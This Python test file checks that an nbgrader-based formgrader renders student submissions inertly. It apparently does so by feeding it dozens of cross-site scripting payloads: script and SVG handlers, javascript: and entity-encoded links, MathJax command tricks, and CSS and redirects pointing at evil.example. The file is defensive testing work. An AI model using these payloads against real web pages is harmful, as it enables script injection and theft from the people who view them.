"""Nothing that a student writes is a program, a link or a request of the formgrader in which a teacher reads it."""

import json
from pathlib import Path
from urllib.parse import quote

import pytest

pytest.importorskip("nbgrader", reason="formgrader is nbgrader's")

from playwright.sync_api import expect

from minigrad.course.grading.collect import spell_name
from minigrad.course.grading.letters import safe_name
from tests.browser.conftest import local
from tests.browser.test_formgrader_browser import served, submission
from tests.course.grading import prose
from tests.course.grading.test_batch import grade_class, hand_in

# It comes from a network.
NO_MATHJAX = "MathJax = { Hub: { Config() {}, Queue() {}, Startup: { signal: { Interest() {} } } } }"
IMG = "<img src=x onerror=alert(1)>"
PICTURE = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
COMMANDS = [  # each of MathJax's that makes what is no formula, or would load or define one that does
    r"\href{javascript:alert(1)}{x}", r"\require{HTML}\href{javascript:alert(1)}{x}", r"\class{save-icon}{x}",
    r"\cssId{of_a_student}{x}", r"\style{position:fixed}{x}", r"\unicode{60}", r"\bbox[position:fixed]{x}",
    r"\def\f#1{\href{#1}{x}}\f{javascript:alert(1)}", r"\newcommand{\g}[1]{\href{#1}{x}}\g{javascript:alert(1)}",
    r"\let\h=\href\h{javascript:alert(1)}{x}", r"\text{$\href{javascript:alert(1)}{x}$}",
    r"\begin{matrix}\href{javascript:alert(1)}{x}\end{matrix}", r"\mmlToken{mi}[href='javascript:alert(1)']{x}",
    r"\toggle{x}{\href{javascript:alert(1)}{x}}\endtoggle", r"\texttip{x}{y}", r"\html{x}",
    r"\HREF{javascript:alert(1)}{x}",
]  # fmt: skip
MARKDOWN = {
    "script": "<script>alert(1)</script>", "script in upper case": "<SCRIPT>alert(1)</SCRIPT >",
    "script of elsewhere": "<script src=//evil.example/x.js></script>", "image": IMG,
    "image that loads": "<img src='/api/contents'>", "svg": "<svg onload=alert(1)>",
    "svg in which a script is": "<svg><script>alert(1)</script></svg>",
    "svg animated": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe of text": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>", "embed": "<embed src='/api/contents'>",
    "details": "<details open ontoggle=alert(1)>x</details>", "autofocus": "<input autofocus onfocus=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>", "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "form": "<form action='/api/terminals' method=post><button>Full credit</button></form>",
    "base": "<base href='//evil.example/'>", "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "style": "<style>@import '//evil.example/x.css'; input { background: url(//evil.example/i) }</style>",
    "style on an element": "<div style='position:fixed;inset:0;background:url(//evil.example/i)'>x</div>",
    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "end of a cell": f"</div></div></div><script>alert(1)</script>{IMG}",
    "end of a comment": f"<!--><script>alert(1)</script>--> {IMG}", "cdata": f"<![CDATA[>{IMG}]]>",
    "tag without an end": "text <img src=x onerror=alert(1) alt='",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "template of mathjax": "<script type='text/x-mathjax-config'>alert(1)</script>",
    "tex in a script": "<script type='math/tex'>\\href{javascript:alert(1)}{x}</script>",
    "id of the page": "<input id='why' class='score tabbable' value='2'><a id=base_url></a>",
    "link": "[x](javascript:alert(1))", "link in mixed case": "[x](JaVaScRiPt:alert(1))",
    "link by entities": "[x](&#106;avascript&#x3a;alert(1))",
    "link by named entities": "[x](javascript&colon;alert(1)) [y](java&Tab;script:alert(1))",
    "link with a tab": "[x](java\tscript:alert(1))", "link in brackets": "[x](<javascript:alert(1)>)",
    "link to data": "[x](data:text/html,<script>alert(1)</script>)", "link to vbscript": "[x](vbscript:alert(1))",
    "link elsewhere": "[Full credit](//evil.example/) https://evil.example/ www.evil.example",
    "link by reference": "[x][1]\n\n[1]: javascript:alert(1) 'title'",
    "link by itself": "<javascript:alert(1)> <https://evil.example/>",
    "link with a title": "[x](/y 'a\" onmouseover=\"alert(1)')", "picture": "![x](//evil.example/i.png)",
    "picture of data": f"![x]({PICTURE})", "picture out of its quotes": '![x](x"onerror="alert(1))',
    "fence": f"```\n</code></pre>{IMG}\n```", "fence in a fence": f"~~~~html\n```\n{IMG}\n```\n~~~~\n{IMG}",
    "fence of a diagram": f"```mermaid\n{IMG}\n```", "fence of an unknown language": f"```{IMG}\nx\n```",
    "code by its place": f"    </code></pre>{IMG}", "code in a line": f"`` ` `` {IMG} `` ` ``",
    "heading": f"# {IMG}\n\n{IMG}\n===", "list": f"- {IMG}\n1. {IMG}\n- [x] {IMG}",
    "table": f"| {IMG} | b |\n|---|---|\n| {IMG} | c |", "quotation": f"> {IMG}\n>> {IMG}", "definition": f"x\n: {IMG}",
    "footnote": f"x[^1]\n\n[^1]: {IMG}",
    "mathematics": f"${IMG}$ $$\n{IMG}\n$$ \\\\({IMG}\\\\) \\begin{{align}}{IMG}\\end{{align}}",
    "mathematics that ends early": f"$$ x {IMG}",
    "environment that is a tag": f"\\begin{{equation*}}</div>{IMG}\\end{{equation*}}",
    "commands of mathjax": " ".join(f"${command}$" for command in (r"\frac{1}{2}", *COMMANDS)),
    "a null": f"<\0script>alert(1)</script><scr\0ipt>alert(1)</script>{IMG}",
    "other brackets": f"＜script＞alert(1)＜/script＞ ‹img› {IMG}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)> &amp;lt;svg onload=alert(1)>",
    "escapes": "\\<img src=x onerror=alert(1)\\> \\[x](javascript:alert(1)) &\\#60;svg onload=alert(1)>",
    "files": "<a href='files/x'>x</a> [x](files/../../tree)",
    "template": "{{ 7 * 7 }} {% include 'x' %} ${alert(1)} <%= 1 %>",
    "direction": "\u202e<script>alert(1)</script>\u2066",
}  # fmt: skip


def html_output(nb):
    data = {"text/html": IMG, "image/svg+xml": "<svg onload=alert(1)>", "application/javascript": "alert(1)"}
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


def attachment(nb):
    why(nb)["source"] = ["![x](attachment:x.svg) ![y](attachment:y)"]
    why(nb)["attachments"] = {"x.svg": {"image/svg+xml": PICTURE}, "y": {f'text/html,{IMG}"': IMG}}


def code(nb):
    nb["cells"].append({"cell_type": "code", "id": "c", "metadata": {}, "outputs": [], "execution_count": f"{IMG}",
                        "source": [f"</pre></div>{IMG}\n'''</span>{IMG}\n%%html\n{IMG}"]})  # fmt: skip


def metadata(nb):
    nb["metadata"] |= {
        "kernelspec": {"name": IMG, "display_name": IMG, "language": IMG},
        "language_info": {"name": IMG, "pygments_lexer": "html", "codemirror_mode": IMG}, "title": IMG,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {IMG: IMG}}}, "celltoolbar": IMG,
    }  # fmt: skip


def cells_metadata(nb):
    for cell in nb["cells"]:
        cell["metadata"] |= {"tags": [IMG], "name": IMG, "magics_language": IMG, "title": IMG}


def names_of_cells(nb):
    for i, cell in enumerate(cell for cell in nb["cells"] if cell["id"] != "why"):
        cell["id"], cell["metadata"]["nbgrader"] = f"{IMG}{i}", {"grade_id": f'"{IMG}{i}', "grade": True, "points": IMG}


def cells_of_one_name(nb):
    nb["cells"] += [{**why(nb), "source": [text]} for text in (IMG, "[x](javascript:alert(1))")]


def raw(nb):
    kinds = ("raw", "heading", IMG, "markdown")
    nb["cells"] += [{"cell_type": kind, "id": f"r{i}", "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
                     "source": [IMG]} for i, kind in enumerate(kinds)]  # fmt: skip


NOTEBOOKS = [html_output, attachment, code, metadata, cells_metadata, names_of_cells, cells_of_one_name, raw]
STUDENTS = [IMG, '";alert(1);"', "x' onmouseover='alert(1)", "{{7*7}}", "a..b"]
STUDENTS += ["%3Csvg onload=alert(1)%3E", "\u202eada"]
NAMED = [f"{IMG} {IMG}_815_assignsubmission_file", '";alert(1)! "><svg onload=alert(1)>_816_assignsubmission_file']


def why(nb):
    return next(cell for cell in nb["cells"] if cell["id"] == "why")


def answered(nb, text):
    copy = json.loads(json.dumps(nb))
    why(copy)["source"] = [text]
    copy["cells"].insert(0, {"cell_type": "markdown", "id": "remark", "metadata": {}, "source": [text]})
    return copy


def changed(nb, change):
    copy = answered(nb, "It is linear.")
    change(copy)
    return copy


def hostile(nb):
    """Folder in which it is handed in → notebook."""
    texts = {f"text {i}": answered(nb, text) for i, text in enumerate(MARKDOWN.values())}
    notebooks = {f"notebook {i}": changed(nb, change) for i, change in enumerate(NOTEBOOKS)}
    return texts | notebooks | {name: answered(nb, IMG) for name in (*STUDENTS, *NAMED)}


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """The folder of the results of a class in which everybody tries something; one cannot even be read."""
    folder = tmp_path_factory.mktemp("hostile")
    nb = prose.made(folder)
    cells = {cell["id"]: f"{IMG}: {IMG}" for cell in nb["cells"]}
    answer = {"cells": cells, "parts": {"doubled": [["raised", IMG, IMG]]}}
    files = {student: json.dumps(notebook).encode() for student, notebook in hostile(nb).items()}
    hand_in(folder / "in", prose.NAME, **files, unreadable=f"{IMG} is no notebook".encode())
    with pytest.MonkeyPatch.context() as patch:
        prose.install(patch, folder, answer)
        assert grade_class(folder) == 0
    return folder / "out"


class Reader:
    """A teacher's browser, and what it did that no teacher has asked for."""

    def __init__(self, page, address):
        self.page, self.address = page, address
        self.did = []
        page.on("dialog", self.heard)
        page.on("request", lambda request: None if self.own(request.url) else self.did.append(request.url))
        page.on("pageerror", lambda error: self.did.append(str(error)))

    def heard(self, dialog):
        self.did.append(f"a script ran: {dialog.message}")
        dialog.dismiss()

    def own(self, url):
        return url.startswith((f"{self.address}/", "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"))

    def open(self, path):
        self.did.clear()
        self.page.goto(f"{self.address}/{path}", wait_until="load")
        self.page.wait_for_timeout(100)

    def made_of(self, selector):
        """Each kind of element there, with the names of its attributes."""
        script = "all => [...new Set(all.map(e => [e.tagName, ...e.getAttributeNames()].join(' ')))]"
        return set(self.page.locator(selector).evaluate_all(script))


@pytest.fixture(scope="module")
def reader(browser, results, tmp_path_factory):
    with served(results, tmp_path_factory.mktemp("jupyter")) as address, browser.new_context() as context:
        context.route(lambda url: not local(url), lambda route: route.fulfill(body=NO_MATHJAX))
        yield Reader(context.new_page(), address)


KINDS = {f"text {i}": name for i, name in enumerate(MARKDOWN)}
KINDS |= {f"notebook {i}": change.__name__ for i, change in enumerate(NOTEBOOKS)}
KINDS |= {name: name for name in (*STUDENTS, "815", "816", "unreadable")}
SHORTENED = ("a null", "direction", "files")  # what has no glyph; and nbconvert drops the folder `files`
WHOLE = {f"text {i}": text for i, (name, text) in enumerate(MARKDOWN.items()) if name not in SHORTENED}


@pytest.mark.share(6)
@pytest.mark.parametrize("student", KINDS, ids=list(KINDS.values()))
def test_a_submission_is_text(reader, results, student):
    reader.open(f"submissions/{submission(results, safe_name(spell_name(student)))}/?index=0")
    assert reader.made_of(".rendered_html *") <= {"P", "BR", "STRONG", "EM"}
    assert reader.made_of(".input_area *") <= {"DIV class", "PRE", "SPAN", "SPAN class"}
    assert reader.page.locator(".nbgrader_cell .score").count() == 2
    links = reader.page.locator("a[href]").evaluate_all("all => all.map(a => a.href)")
    lead = (f"{reader.address}/", reader.address.replace("/formgrader", "/notebooks/autograded/"))
    assert all(link.startswith(lead) for link in links), links
    if student in WHOLE:
        shown = reader.page.locator(".nbgrader_cell .rendered_html").inner_text()
        assert "".join(shown.replace("∖", "\\").split()) == "".join(WHOLE[student].split())
    assert reader.did == []


MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/"
LOADER = f"document.write('<script src={MATHJAX}MathJax.js?config=TeX-AMS-MML_HTMLorMML-full></' + 'script>')"


def from_a_package(route):
    """MathJax's files from where they are installed; and without its extension `Safe`, which is a wall behind ours."""
    name = route.request.url.removeprefix(MATHJAX).partition("?")[0]
    file = Path(mathjax().__file__).with_name("static") / name
    if name == "latest.js":
        route.fulfill(body=LOADER, content_type="text/javascript")
    elif file.is_file():
        route.fulfill(path=file)
    else:
        route.abort()


def mathjax():
    return pytest.importorskip("jupyter_server_mathjax", reason="formgrader has MathJax from a network")


def test_formulas_are_formulas_where_mathjax_is_there(browser, reader, results):
    """Any command of MathJax's would do: some make links, or elements with a name and a style, out of a text."""
    mathjax()
    student = f"text {[*MARKDOWN].index('commands of mathjax')}"
    with browser.new_context() as context:
        context.route(lambda url: not local(url), from_a_package)
        page = Reader(context.new_page(), reader.address)
        page.open(f"submissions/{submission(results, student)}/?index=0")
        page.page.wait_for_function(
            "window.MathJax && MathJax.isReady && document.querySelector('.rendered_html .mfrac')"
        )
        page.page.evaluate("() => new Promise(done => MathJax.Hub.Queue(done))")
        shown = page.page.locator(".nbgrader_cell .rendered_html")
        assert shown.locator("script[type='math/tex']").count() == 1 + len(COMMANDS)
        assert shown.locator("a, .save-icon, #of_a_student, [style*=fixed], [href], maction").count() == 0
        assert page.did == []


LISTS = ["manage_assignments", f"manage_submissions/{prose.NAME}", "manage_students", "gradebook"]
LISTS += [f"gradebook/{prose.NAME}", f"gradebook/{prose.NAME}/{prose.NAME}"]
LISTS += [f"manage_students/{quote(safe_name(spell_name(name)))}" for name in (*STUDENTS, "815")]
LISTS += [f"manage_students/{quote(safe_name(spell_name(name)))}/{prose.NAME}" for name in (*STUDENTS, "815")]


@pytest.mark.share(3)
@pytest.mark.parametrize("path", LISTS)
def test_lists_of_the_class_are_text(reader, path):
    reader.open(path)
    reader.page.wait_for_load_state("networkidle")
    rows = reader.made_of("#main-table *")
    assert rows
    assert not any(word in " ".join(rows) for word in (" on", "IMG", "SVG", "SCRIPT")), rows
    assert reader.did == []


def test_who_could_not_be_read_waits_for_a_person(reader, results):
    reader.open(f"gradebook/{prose.NAME}/{prose.NAME}")
    reader.page.wait_for_load_state("networkidle")
    reader.open(f"submissions/{submission(results, 'unreadable')}/?index=0")
    assert "unreadable the file is not a notebook" in reader.page.locator(".rendered_html").first.inner_text()
    reader.open(f"manage_submissions/{prose.NAME}")
    row = reader.page.get_by_role("row", name="unreadable")
    expect(row).to_contain_text("needs manual grading")
